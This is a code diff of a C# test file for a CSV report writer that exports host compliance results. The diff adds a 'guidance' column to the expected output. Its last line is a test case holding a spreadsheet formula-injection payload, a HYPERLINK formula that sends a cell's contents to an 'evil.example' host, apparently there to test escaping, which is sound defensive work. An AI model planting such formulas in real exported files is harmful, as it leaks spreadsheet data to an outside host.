@@ -71,11 +71,11 @@ public class CsvReportWriterTests
         Assert.That(rows, Has.Count.EqualTo(4));
         Assert.That(rows[0], Is.EqualTo(new[] { "hostname", "machine_id", "report_id", "finished_at", "profile", "control_id", "title", "status", "severity",
             "message", "references", "remediation", "waiver_approver", "waiver_expires", "attested_by", "attestation_expires",
-            "rand_host_controls_met", "rand_attested" }));
+            "rand_host_controls_met", "rand_attested", "guidance" }));
         Assert.That(rows[2], Is.EqualTo(new[] { "gpu-02", "m1", "6c1e8f52-3b0a-4a37-9a55-1b7c58a2d0f1", "2026-03-01T12:00:00Z", "rand-sl1", "WG-ACL-001",
-            "No world access", "fail", "high", "world-readable", "dsit:5.4.2; rand:SL1; rand:SL2", "chmod o-r", "", "", "", "", "SL0", "SL0" }));
+            "No world access", "fail", "high", "world-readable", "dsit:5.4.2; rand:SL1; rand:SL2", "chmod o-r", "", "", "", "", "SL0", "SL0", "" }));
         Assert.That(rows[3][7..], Is.EqualTo(new[] { "waived", "high", "off", "dsit:5.4.2; rand:SL1; rand:SL2", "enable it", "ciso@example.com", "2026-09-30",
-            "", "", "SL0", "SL0" }));
+            "", "", "SL0", "SL0", "" }));
     }
 
     [TestCase("=HYPERLINK(\"http://evil.example/\"&A1)")]
